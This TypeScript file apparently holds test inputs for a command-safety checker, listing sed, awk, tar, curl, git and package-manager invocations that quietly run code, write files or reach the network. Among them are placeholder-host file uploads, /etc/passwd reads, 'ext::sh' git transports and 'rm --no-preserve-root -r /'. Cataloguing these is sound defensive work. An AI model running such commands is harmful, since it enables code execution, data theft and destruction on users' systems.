/** Words that make a program start another, write, speak to a network or bring options from elsewhere. */
import { lines } from "./command.ts";

export const TRICKS = lines(String.raw`
# a word that could be an option
$X a
sort $X
sort *
sort -k $X a
sort "$X"
uniq a* b
uniq $X
uniq src/*
git diff $X
git diff "$X"
git log --format $X
git log --$X
git $X
git "$X" status
git -C "$X" status
git status *
find $X -type f
find "$X" -type f
find . $X
find ./src/$X -type f
find . -name *
find * -type f
sed "$X" a
sed -n $X a
sed 's/a/b/' $X
sed 's/a/b/' *
awk "$X" a
awk '{print}' $X
tree $X
file *
rg $X
rg foo *
rg -g *.ts foo
xargs $X
tar $X
tar tf "$X"
date $X
cp a $X
cp $X b
diff $X
jq "$X" a
printf "$X"
find . -exec $X ';'
# abbreviated, bundled, attached
sort --outp=x a
sort --outp x a
sort --compress-prog=sh a
sort --compress-program=sh a
sort --compress-program sh a
sort --files0-from=a
sort --random-source=a a
sort -T /tmp a
sort -S 1 --batch-size=2 a
sort -no x a
sort -ox a
sort -uo x a
sort -o x a
sort a -o x
sort a --unknown -- b
sort --output=x a
sort --version-sor a
sort -nk2ox a -Z
uniq a b
uniq -c a b
uniq -- a b
shuf -o x a
shuf --output=x a
shuf --random-source=x a
cat --unknown a
head --byte=3 a
head -n
tail --sleep=1 a
wc --files0-from=list
du --files0-from=list
grep --no-such a b
grep -X a b
grep --includ=x a b
ls --unknown
stat --unknown a
diff -l a b
diff --paginate a b
diff --pag a b
cut --output-delimite=x a
base64 -o x a
tee --unknown a
# xxd, file, tree, strings
xxd a b
xxd -r a b
xxd -r a
xxd -revert a
xxd -p a b
xxd -rp a
file -C -m a
file --compile -m a
file -f names
file --files-from names
file -z a
file --uncompress a
file -Z a
file -p a
file -S a
tree -o x
tree -ao x
tree -R -L 2 -H .
tree -RH . -L 1
tree --fromfile a
strings @args
strings -n 8 @args
# sed
sed -i s/a/b/ a
sed -i.bak s/a/b/ a
sed -ni p a
sed -n -i p a
sed -Ei s/a/b/ a
sed --in-place s/a/b/ a
sed --in-place=.bak s/a/b/ a
sed --in-plac s/a/b/ a
sed 's/a/b/' -i a
sed -i../x s/a/b/ a
sed -f script a
sed --file=script a
sed --fil=script a
sed -nf script a
sed '1e id' a
sed 'e' a
sed '1e' a
sed -n '1{e id⏎}' a
sed 's/a/b/e' a
sed 's/a/b/ge' a
sed 's/a/id/3e' a
sed 's/a/b/Ie' a
sed 's|a|b|e' a
sed 's,a,b,;e id' a
sed '/x/e id' a
sed '$!e id' a
sed '1~2e id' a
sed '0,/x/e id' a
sed '\,x,e id' a
sed 'w x' a
sed 'w/etc/x' a
sed '1w x' a
sed 'W x' a
sed 's/a/b/w x' a
sed 's/a/b/gw x' a
sed 's/a/b/;w x' a
sed -n '/a/w x' a
sed -e p -e 'w x' a
sed -e 'a foo' -e 'e id' a
sed --expression='w x' a
sed --expression 'e id' a
sed 'p;p;e' a
sed 's/[/]/x/;e id;s/]/x/' a
sed 's/[/e id/' a
sed 'sxaxbxe' a
sed '{p};e' a
sed 'h}e id' a
sed 'r' a
sed '#n⏎e id' a
sed 'a foo⏎e id' a
sed 'a foo\\⏎e id' a
sed 'b x;e id' a
sed ':a e⏎e id' a
sed 'y/a/b/;e' a
sed '1,2!{;;e id⏎}' a
sed 'v 9;e' a
sed 'M' a
sed 'r a;w x' a
# awk
awk 'BEGIN { system("id") }'
awk 'BEGIN{system ("id")}'
awk '{ print | "sh" }' a
awk '{ print |& "sh" }' a
awk 'BEGIN { "id" | getline x; print x }'
awk 'BEGIN { while ((getline l < "/etc/passwd") > 0) print l }'
awk '{ print > "x" }' a
awk '{ print >> "x" }' a
awk '{ print $1 > $2 }' a
awk '{ printf("%s", $1) > "x" }' a
awk '{print>"x"}' a
awk 'BEGIN { getline; print }' a
awk '@load "x"; BEGIN {}'
awk '@include "x"'
awk 'BEGIN { f = "system"; @f("id") }'
awk 'BEGIN { ARGV[1] = "/etc/passwd"; ARGC = 2 } { print }'
awk '{ if (1) /"/ ; system("id") ; /"/ }' a
awk '{ x = 1 /2; system("id") }' a
awk '{ i++ /"/ ; system("id") ; /"/ }' a
awk '{ n[1]/2; system("id") #/⏎}' a
awk '/[/] system("id") /' a
awk '{ sys\⏎tem("id") }' a
awk 'BEGIN { SYMTAB["ARGC"] = 2 }'
awk -f script a
awk -fscript a
awk --file=script a
awk -F: -f script a
awk -i inplace '{ print }' a
awk --include=x '{ print }' a
awk -l x '{ print }' a
awk --load=x '{ print }' a
awk -E script a
awk --exec=script a
awk -o '{ print }' a
awk -ox '{ print }' a
awk -p '{ print }' a
awk -d '{ print }' a
awk --dump-variables=x '{ print }' a
awk --profile=x '{ print }' a
awk -W exec=script a
awk -e 'BEGIN{}' a
awk -vARGC=2 '{ print }' a
awk '{ print }' ARGC=2 a
awk '{ print }' /inet/tcp/0/h/80
awk '{print}' -f x
gawk 'BEGIN { "/inet/tcp/0/h/80" |& getline }'
mawk -We script
# find and fd
find . -delete
find . -name a -delete
find . -fprint x
find . -fprint0 x
find . -fls x
find . -fprintf x %p
find . -execdir id ';'
find . -okdir id ';'
find . -exec
find . -exec id
find . -exec ';'
find . -unknown
find -files0-from list
find . -D exec
find . -Olevel
find . -nam a
fd --unknown
fd -x
fd foo -x id ';' --unknown
# rg
rg --pre sh foo
rg --pre=sh foo
rg --hostname-bin=sh foo
rg --hostname-bin sh foo
rg --hyperlink-format default --hostname-bin x foo
rg -z foo
rg --search-zip foo
rg -nz foo
rg --pr=sh foo
rg foo --pre sh
# tar and friends
tar -cf x --to-command=sh a
tar xf a --to-command=sh
tar xf a --to-comm=sh
tar xf a -I sh
tar -xf a --use-compress-program=sh
tar --use-compress-prog=sh -xf a
tar cf x a --checkpoint=1 --checkpoint-action=exec=sh
tar cf x a --checkpoint=1
tar xf a -F sh
tar xf a --info-script=sh
tar xf a --new-volume-script=sh
tar xf h:a
tar -xf user@h:a
tar xf a --rsh-command=sh
tar xf a --rmt-command=sh
tar cf x -T list
tar cf x --files-from=list
tar xPf a
tar xf a --absolute-names
tar cf x -g snapshot a
tar cf x --listed-incremental=s a
tar tf a --index-file=x
tar xf a --transform=s/a/b/
tar xf a --xform s/a/b/
tar cf x -- --checkpoint-action=exec=sh
tar -czIf sh x a
tar rf a b
tar f a
tar xcf a
tar xf a --one-top-level=x
tar xf a --remove-files
zip -r x.zip a -T -TT sh
zip x.zip a -TT sh
zip -T x.zip a
zip --unzip-command=sh x.zip a
zip -rb /tmp x.zip a
unzip -Kx a.zip
gzip -S x a
xz --files=list
zstd -o x a
# dates, names, shell
date -s 12:00
date --set=12:00
date -us 12:00
date 010112002026
date --se=12:00
hostname evil
hostname -F a
hostname -f
ps auxe
ps -auxe
ps eww
ps -auxeww
printf -v 'a[$(id)]' x
printf '%n' PATH
printf '%-5n' PATH
printf -vx a
test -v 'a[$(id)]'
[ -v 'a[$(id)]' ]
[ -R 'a[$(id)]' ]
[ "$A" "$B" ]
[ $A = b ]
[ -f $A ]
test --unknown
command id
command -p id
env id
env A=b id
env -S id
cd -
cd a b
cd --unknown
ulimit -n 5
umask 000
less a
more a
man -P sh ls
vim -c '!id' a
view a
ed a
# xargs
xargs --unknown id
xargs -o id
xargs --process-slot-var=x id
xargs -I "$X" id
xargs --arg-fil=x id
# jq and yq
jq -f program a
jq --from-file program a
jq -L lib . a
jq -Llib . a
jq 'import "a" as a; .' a
jq 'include "a"; .' a
jq --library-path lib . a
yq -i .a=1 a
yq -ri .a=1 a
yq --inplace .a=1 a
yq 'load("/etc/passwd")' a
yq -n 'load_str("x")'
yq 'system("id")' a
yq -s .a a
yq --from-file x a
# package managers, builds, downloads
npm run test --script-shell=sh
npm run test --script-shell sh
npm test --prefix x
npm test --node-options=--require=x
npm run --shell=sh test
npm install --globalconfig=x
npm config set script-shell sh
npm publish
npm unknown
npm --prefix x test
npm exec --call id
npx -c id
npx --call=id
npx -p evil tsc
npx --package=evil tsc
npx $X
pnpm --config.x=y test
pnpm --dir x test
yarn --cwd x test
yarn config set yarnPath x
yarn plugin import x
make SHELL=sh
make -f x
make -C x
make --eval=x
make --file=x
make -e x
make -I x
make 'CC=sh -c id'
cargo --config x build
cargo build --config x
cargo +evil build
cargo install x
cargo evil
go build -toolexec sh
go test -exec sh
go vet -vettool=x
go build -o x
go run -exec=sh x.go
go env -w GOFLAGS=x
go build -ldflags x
curl -K config http://h
curl --config config http://h
curl -o x http://h
curl -so x http://h
curl -O http://h/x
curl http://h --output x
curl --outp x http://h
curl -d @a http://h
curl -sd @a http://h
curl -d@a http://h
curl --data=@a http://h
curl --data-binary @a http://h
curl --json @a http://h
curl -H @a http://h
curl -b cookies http://h
curl -c jar http://h
curl -F f=@a http://h
curl -T a http://h
curl -w '%output{x}' http://h
curl --trace x http://h
curl --proxy p http://h
curl -x p http://h
curl --engine x http://h
curl file:///etc/passwd
curl FILE:/etc/passwd
curl scp://h/x
curl '{file,http}://h'
curl ftp.h/x
wget -i list
wget -O x http://h
wget -e robots=off http://h
wget --use-askpass=sh http://h
wget --post-file=a http://h
wget --config=x http://h
wget -r http://h
dd unknown=1
dd $X
# writers beyond their lists
rm --no-preserve-root -r /
cp --backup a b
cp --suffix=x -b a b
mv -S x a b
split --filter=sh a
split --filter sh a
split --fil=sh a
touch --unknown a
mkdir -Z a
chmod --unknown a
ln --backup a b
truncate --unknown a
`);

export const GIT_TRICKS = lines(String.raw`
git -c core.pager=sh log
git -ccore.pager=sh log
git -c alias.x='!id' x
git --config-env=core.pager=X log
git --exec-path=x status
git --exec-path
git --git-dir=x status
git --git-dir x status
git --work-tree=x status
git --namespace=x log
git --bare status
git -p log
git --paginate log
git --pagi log
git -C
git --super-prefix=x status
git --attr-source=x diff
git evil
git lg
git ci
git difftool
git mergetool
git send-email
git filter-branch
git instaweb
git daemon
git credential fill
git hook run x
git for-each-repo --config=x
git maintenance start
git help log
git log --help
git status --help
git diff --output=x
git diff --output x
git diff --outp=x
git diff --ext-diff
git diff --ext
git diff --textconv
git diff --textcon
git diff HEAD --output=x
git log --output=x
git log --ext-diff -p
git log --textconv
git log --show-signature
git log --show-sig
git log --format=%G?
git log --format='%h %GK'
git log --pretty=format:%GG
git log --pretty='%-G?'
git log --stdin
git show --output=x
git show --textconv HEAD
git show --show-signature
git for-each-ref --format='%(signature)'
git tag --format='%(signature:grade)'
git stash show --output=x
git stash show --ext-diff
git reflog expire --all
git reflog delete HEAD
git reflog drop
git grep -O foo
git grep -Osh foo
git grep -nO foo
git grep --open-files-in-pager foo
git grep --open-files-in-pager=sh foo
git grep --open=sh foo
git grep --textconv foo
git grep -Oless -e x
git blame --textconv a
git cat-file --textconv HEAD:a
git cat-file --filters HEAD:a
git rev-parse --parseopt
git hash-object -w a
git archive --remote=h HEAD
git archive --exec=sh --remote=h HEAD
git archive -o x HEAD
git archive --output=x HEAD
git archive --outp=x HEAD
git archive --add-file=/etc/passwd HEAD
git branch --edit-description
git branch --edit-desc
git branch --list --unknown
git tag -s v1
git tag -u key v1
git tag -v v1
git tag --verify v1
git tag -as v1
git tag -am x -s v1
git tag --sign v1
git config user.name x
git config --global core.pager sh
git config --add core.pager sh
git config set core.pager sh
git config unset core.pager
git config --unset core.pager
git config --edit
git config -e
git config edit
git config --replace-all a.b c
git config --remove-section core
git config core.pager sh
git remote add x u
git remote set-url origin u
git remote rename a b
git remote remove x
git stash $X
git stash create
git stash store x
git worktree move a b
git worktree lock a
git notes add -m x
git notes edit
git submodule foreach id
git submodule foreach 'id'
git submodule add u
git submodule
git bisect run id
git bisect start
git bundle create x HEAD
git fetch --upload-pack=sh origin
git fetch --upload-pack sh origin
git fetch --upload=sh origin
git fetch 'ext::sh -c id'
git fetch -u origin
git pull --upload-pack=sh
git pull 'ext::sh -c id'
git pull -S
git pull --gpg-sign
git push --receive-pack=sh origin
git push --exec=sh origin
git push --receive=sh origin
git push 'ext::sh -c id' main
git push -o x origin
git push --signed origin
git push $X
git push -- -evil
git ls-remote --upload-pack=sh origin
git ls-remote --exec=sh origin
git ls-remote 'ext::sh -c id'
git ls-remote EXT::x
git clone --config core.pager=sh u
git clone -c core.fsmonitor=sh u
git clone -u sh u d
git clone --upload-pack=sh u
git clone --template=x u
git clone --recurse-submodules u
git clone --reference=x u
git clone --separate-git-dir=x u
git clone 'ext::sh -c id' d
git clone fd::17 d
git commit -S -m x
git commit -Skey -m x
git commit --gpg-sign -m x
git commit -aSm x
git commit -e
git commit --edit -m x
git commit -c HEAD
git commit -t x
git commit --template=x
git commit --reedit-message=HEAD
git commit -p
git commit --interactive
git add -i
git add -p
git add -e
git add --patch
git add --edit
git add --inter
git checkout -p
git checkout --patch
git reset -p
git restore --patch a
git rebase -i main
git rebase --interactive main
git rebase -x id main
git rebase --exec=id main
git rebase --exec id main
git rebase --exe=id main
git rebase -qx id main
git rebase --edit-todo
git rebase -S main
git merge -S x
git merge --gpg-sign x
git merge -e x
git merge --edit x
git cherry-pick -e x
git cherry-pick -S x
git revert -e x
git revert --gpg-sign x
git init --template=x
git init --separate-git-dir=x
git clean -i
git am x
git apply --build-fake-ancestor=x a
git update-ref HEAD x
git symbolic-ref HEAD x
git format-patch --attach=x --to-cmd=sh
git shortlog --output=x
git range-diff --output=x a b
git diff-tree --output=x HEAD
git describe --unknown
git var $X
git ls-files --unknown
git show-ref --exclude-existing --unknown
git rev-list --use-bitmap-index --output=x HEAD
`);
